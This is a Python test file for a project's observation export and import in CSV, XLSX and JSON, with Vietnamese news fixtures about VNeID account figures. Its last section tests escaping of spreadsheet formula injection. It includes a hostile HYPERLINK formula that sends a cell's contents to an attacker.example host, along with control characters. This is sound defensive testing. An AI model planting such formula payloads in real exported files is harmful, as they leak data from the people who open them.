"""Observation export and import: the columns, and a lossless round trip in every format."""

from __future__ import annotations

import io
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from chiso.errors import InputError
from chiso.services import observations, review
from chiso.services.exports import tables as exports
from chiso.store.db import Database
from tests.review import factory
from tests.review.factory import Fig

M = 1_000_000
TEXT_A = "Tổng kết năm cho thấy đã có hơn 67 triệu tài khoản được kích hoạt; 18/19 cơ sở dữ liệu đã xong."
TEXT_B = (
    "Một tờ báo khác, dẫn lời lãnh đạo, nói đã có hơn 67 triệu tài khoản được kích hoạt, tức “rất nhiều”."
)
TEXT_C = "Trong năm 2025 trung bình 3,5 triệu lượt/ngày; khoảng 10–15 triệu tài khoản mới."


def _fill(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    factory.fake_matcher(monkeypatch)
    factory.indicators(db)
    a = factory.report(
        db,
        TEXT_A,
        [
            Fig("hơn 67 triệu tài khoản", 67 * M, "more_than", as_of=date(2026, 1, 16)),
            Fig("18/19 cơ sở dữ liệu", 18, unit="cơ sở dữ liệu", of_total=19, as_of=date(2025, 12, 31)),
        ],
        url="https://a.example.vn/tong-ket",
        title="Tổng kết, năm 2025",
        publisher="Báo A",
        licence="CC BY 4.0",
    )
    b = factory.report(
        db,
        TEXT_B,
        [Fig("hơn 67 triệu tài khoản", 67 * M, "more_than", as_of=date(2026, 1, 16))],
        url="https://b.example.vn/x?y=1",
        title='Tin "B"',
        publisher="Báo B",
        published=date(2026, 1, 17),
    )
    c = factory.report(
        db,
        TEXT_C,
        [
            Fig(
                "3,5 triệu lượt/ngày",
                3.5 * M,
                unit="lượt/ngày",
                period_start=date(2025, 1, 1),
                period_end=date(2025, 12, 31),
                time_quote="Trong năm 2025",
                time_source="sentence",
            ),
            Fig("khoảng 10–15 triệu tài khoản", 10 * M, "about", is_target=True),
        ],
        url=None,
        publisher="Báo C",
    )
    review.accept(db, a.mention_ids[0], indicator="vneid-activated-accounts", actor="t")
    review.accept(db, a.mention_ids[1], indicator="mps-databases-completed", actor="t")
    review.accept(db, b.mention_ids[0], indicator="vneid-activated-accounts", actor="t")
    review.accept(db, c.mention_ids[0], indicator="vneid-daily-accesses", actor="t")
    review.accept(db, c.mention_ids[1], indicator="vneid-organisation-accounts", actor="t")


def test_rows_have_the_documented_columns(database: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    _fill(database, monkeypatch)
    rows = exports.rows(database)
    assert all(tuple(r) == exports.COLUMNS for r in rows)
    by_quote = {(r["indicator"], r["publisher"]): r for r in rows}
    row = by_quote[("vneid-activated-accounts", "Báo A")]
    assert row == {
        "indicator": "vneid-activated-accounts",
        "value": 67000000,
        "value_max": None,
        "qualifier": "more_than",
        "of": None,
        "as_of": "2026-01-16",
        "period_start": None,
        "period_end": None,
        "target": False,
        "source_url": "https://a.example.vn/tong-ket",
        "report_title": "Tổng kết, năm 2025",
        "publisher": "Báo A",
        "published_on": "2026-01-16",
        "quote": "hơn 67 triệu tài khoản",
        "licence": "CC BY 4.0",
        "permalink": f"http://127.0.0.1:8000/reports/{row['permalink'].split('/reports/')[1]}",
        "accessed_on": date.today().isoformat(),
        "time_source": None,
        "dated_by": None,
    }
    assert by_quote[("mps-databases-completed", "Báo A")]["of"] == 19
    assert len(rows) == 5


def _xlsx_cells(raw: bytes) -> list[tuple[object, ...]]:
    wb = load_workbook(io.BytesIO(raw), read_only=True)
    cells = [tuple(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
    wb.close()
    return cells


def _rows_of(path: Path, fmt: str) -> list[dict[str, object]]:
    return exports.parse(path.read_bytes(), exports.format_of(path, fmt))


def _without_links(path: Path, fmt: str) -> list[dict[str, object]]:
    return [{k: v for k, v in r.items() if k != "permalink"} for r in _rows_of(path, fmt)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_round_trip_into_an_empty_database_is_lossless(
    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, fmt: str
) -> None:
    _fill(database, monkeypatch)
    first = tmp_path / f"first.{fmt}"
    n = exports.export_observations(database, first)
    assert n == 5
    # a new, empty database: the import loads the shipped catalogue for the slugs it names
    empty = Database.from_url(f"sqlite:///{tmp_path / 'empty.sqlite3'}")
    result = exports.import_observations(empty, first, actor="importer")
    assert (result.rows, result.observations_created, result.sources_added) == (5, 4, 5)
    second = tmp_path / f"second.{fmt}"
    exports.export_observations(empty, second)
    # the same rows but for the permalinks, which point into each database
    assert _without_links(first, fmt) == _without_links(second, fmt)
    assert all(r["permalink"].startswith("http://127.0.0.1:8000/reports/") for r in _rows_of(second, fmt))
    # corroboration survives: one observation, two sources
    (obs,) = observations.list_observations(empty, "vneid-activated-accounts")
    assert obs.source_count == 2
    # importing the same file again changes nothing
    again = exports.import_observations(empty, first, actor="importer")
    assert (again.observations_created, again.sources_added, again.unchanged) == (0, 0, 5)
    third = tmp_path / f"third.{fmt}"
    exports.export_observations(empty, third)
    if fmt != "xlsx":
        assert third.read_bytes() == second.read_bytes()
    empty.dispose()


def test_json_export_is_a_list_of_rows(
    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _fill(database, monkeypatch)
    path = tmp_path / "o.json"
    exports.export_observations(database, path, indicator="vneid-daily-accesses")
    (row,) = json.loads(path.read_text(encoding="utf-8"))
    assert (row["value"], row["period_start"], row["period_end"]) == (3500000, "2025-01-01", "2025-12-31")
    # the phrase that dated the point is provenance, kept beside the quote
    assert (row["time_source"], row["dated_by"]) == ("sentence", "Trong năm 2025")


def test_the_dating_phrase_survives_an_import(
    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _fill(database, monkeypatch)
    path = tmp_path / "o.csv"
    exports.export_observations(database, path, indicator="vneid-daily-accesses")
    empty = Database.from_url(f"sqlite:///{tmp_path / 'empty.sqlite3'}")
    exports.import_observations(empty, path)
    (obs,) = observations.list_observations(empty, "vneid-daily-accesses")
    (src,) = obs.sources
    assert (src.time_source, src.time_quote) == ("sentence", "Trong năm 2025")
    empty.dispose()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("indicator,value\nvneid-activated-accounts,abc\n", "row 2: value must be a number"),
        ("indicator,value,as_of\nvneid-activated-accounts,5,16/1/2026\n", "row 2: as_of must be YYYY-MM-DD"),
        ("indicator,value,qualifier\nvneid-activated-accounts,5,lots\n", "row 2: qualifier must be one of"),
        ("value\n5\n", "missing column"),
        ("indicator,value\n,5\n", "indicator and value are required"),
        # never dated the day of the import
        ("indicator,value\nvneid-activated-accounts,5\n", "row 2: no date"),
        (
            "indicator,value,as_of,time_source\nvneid-activated-accounts,5,2026-01-01,guess\n",
            "time_source must be",
        ),
    ],
)
def test_bad_rows_are_refused_with_their_row_number(
    database: Database, tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        exports.import_observations(database, path)
    assert observations.list_observations(database) == []


def test_unknown_format(database: Database, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"\.csv, \.xlsx or \.json"):
        exports.export_observations(database, tmp_path / "o.txt")


def test_an_unknown_indicator_becomes_a_placeholder(database: Database, tmp_path: Path) -> None:
    path = tmp_path / "own.json"
    path.write_text(
        json.dumps([{"indicator": "my-own-count", "value": 12, "as_of": "2026-02-01"}]), encoding="utf-8"
    )
    result = exports.import_observations(database, path)
    assert result.indicators_created == ["my-own-count"]
    (obs,) = observations.list_observations(database, "my-own-count")
    assert (obs.value, obs.as_of, obs.source_count) == (12, date(2026, 2, 1), 0)


# --- spreadsheets never run what a report says (issue 12, item 19) ------------------------------

HOSTILE_PUBLISHER = "=1+1"
HOSTILE_URL = '=HYPERLINK("http://attacker.example/?"&A1,"bấm vào đây")'
CONTROL_TITLE = "Báo cáo\x07 quý\x1b III"


def _fill_hostile(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    factory.fake_matcher(monkeypatch)
    factory.indicators(db)
    r = factory.report(
        db,
        TEXT_A,
        [Fig("hơn 67 triệu tài khoản", 67 * M, "more_than", as_of=date(2026, 1, 16))],
        url=HOSTILE_URL,
        title=CONTROL_TITLE,
        publisher=HOSTILE_PUBLISHER,
    )
    review.accept(db, r.mention_ids[0], indicator="vneid-activated-accounts", actor="t")


def test_csv_cells_that_look_like_formulas_are_escaped_and_come_back(
    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _fill_hostile(database, monkeypatch)
    path = tmp_path / "obs.csv"
    exports.export_observations(database, path)
    text = path.read_text(encoding="utf-8")
    assert ",'=1+1," in text
    assert "'=HYPERLINK(" in text
    # no cell of the file starts with a formula character
    import csv as _csv

    for row in _csv.reader(io.StringIO(text)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "@"), cell
    rows = exports.parse(path.read_bytes(), "csv")
    assert rows[0]["publisher"] == HOSTILE_PUBLISHER
    assert rows[0]["source_url"] == HOSTILE_URL


def test_xlsx_has_no_formula_and_survives_control_characters(
    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _fill_hostile(database, monkeypatch)
    path = tmp_path / "obs.xlsx"
    exports.export_observations(database, path)  # raised IllegalCharacterError before
    wb = load_workbook(path)  # not read-only: data_type tells a formula from text
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert all(c.data_type != "f" for c in ws[2])
    assert row["publisher"].value == "'=1+1"
    assert row["report_title"].value == "Báo cáo quý III"
    wb.close()
    back = exports.parse(path.read_bytes(), "xlsx")
    assert back[0]["publisher"] == HOSTILE_PUBLISHER


@pytest.mark.parametrize("text", ["plain", "'quoted", "''=x", "-5 đồng", "+84 912", "@user", "=", "'"])
def test_cell_escaping_round_trips(text: str) -> None:
    assert exports._uncell_text(exports._cell_text(text)) == text
